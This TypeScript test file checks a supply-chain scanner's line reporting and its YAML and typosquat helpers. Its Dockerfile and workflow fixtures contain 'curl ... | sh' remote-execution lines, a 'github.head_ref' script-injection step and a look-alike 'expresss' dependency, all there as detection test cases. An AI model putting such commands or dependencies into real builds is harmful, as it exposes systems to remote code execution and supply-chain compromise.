import assert from 'node:assert/strict';
import { test } from 'node:test';
import { near } from '../../../verifier/gates/build/lookAlikes.ts';
import { child, YamlReader } from '../../../verifier/gates/build/yamlNodes.ts';
import { builtInGates, CONTEXT } from '../../policies/builtIn.ts';

const { gates } = await builtInGates();
const lineOf = (path: string, text: string, rule: string): number | undefined =>
  gates.assess({ kind: 'file', path, text }, CONTEXT).findings.find(({ ruleId }) => ruleId === rule)?.location?.startLine;

const PLACES: readonly (readonly [string, string, string, number])[] = [
  ['Dockerfile', 'FROM a:1\nRUN true && \\\n  # why\n  curl -s https://x.example/i | sh\n', 'supply-chain.remote-execution', 4],
  ['Dockerfile', 'FROM a:1\nRUN <<EOF\ntrue\ncurl -s https://x.example/i | sh\nEOF\n', 'supply-chain.remote-execution', 4],
  ['Dockerfile', 'FROM a:1\nENV A=b \\\n  C=d\nUSER root\n', 'supply-chain.image-root', 4],
  ['Dockerfile', '# escape=`\nFROM a:1\nADD `\n  https://x.example/t /t\n', 'supply-chain.image-remote-add', 4],
  [
    '.github/workflows/a.yml',
    'jobs:\n  a:\n    steps:\n    - run: |\n        true\n        curl -s https://x.example/i | sh\n',
    'supply-chain.remote-execution',
    6,
  ],
  [
    '.github/workflows/a.yml',
    'on: push\njobs:\n  a:\n    steps:\n    - run: |\n        true\n        echo $' + '{{ github.head_ref }}\n',
    'supply-chain.workflow-script-injection',
    7,
  ],
  ['package.json', '{\n  "dependencies": {\n    "a": "1",\n    "expresss": "4"\n  }\n}\n', 'supply-chain.look-alike-package', 4],
  ['Cargo.toml', '[package]\nname = "a"\n[dependencies]\n# b = "*"\nc = "*"\n', 'supply-chain.dependency-any-version', 5],
];
for (const [path, text, rule, line] of PLACES) {
  test(`${rule} names line ${line} of ${path}: ${JSON.stringify(text).slice(0, 60)}`, () => assert.equal(lineOf(path, text, rule), line));
}

test('keys, items, blocks, quotes and one-line collections become nodes', () => {
  const text = `a: # why\n- b: 'it''s'\n  c: |\n    one\n\n    two\n- {d: [e, "f, g"], h: i}\n"j": k # l\n`;
  const { nodes } = new YamlReader(text);
  const [a] = nodes;
  const [first, second] = a?.children ?? [];
  assert.equal(child(first, 'b')?.value, "it's");
  assert.equal(child(first, 'c')?.value, '    one\n\n    two');
  assert.deepEqual(
    child(second, 'd')?.children.map(({ value }) => value),
    ['e', 'f, g'],
  );
  assert.equal(child(second, 'h')?.value, 'i');
  assert.equal(nodes.find(({ key }) => key === 'j')?.value, 'k');
});

test('a slip is a letter left out, added, changed or swapped', () => {
  for (const slip of ['expres', 'expresss', 'exprass', 'exrpess']) assert.ok(near(slip, 'express', 1), slip);
  for (const other of ['express', 'expense', 'exprss5', 'compress']) assert.ok(!near(other, 'express', 1), other);
});
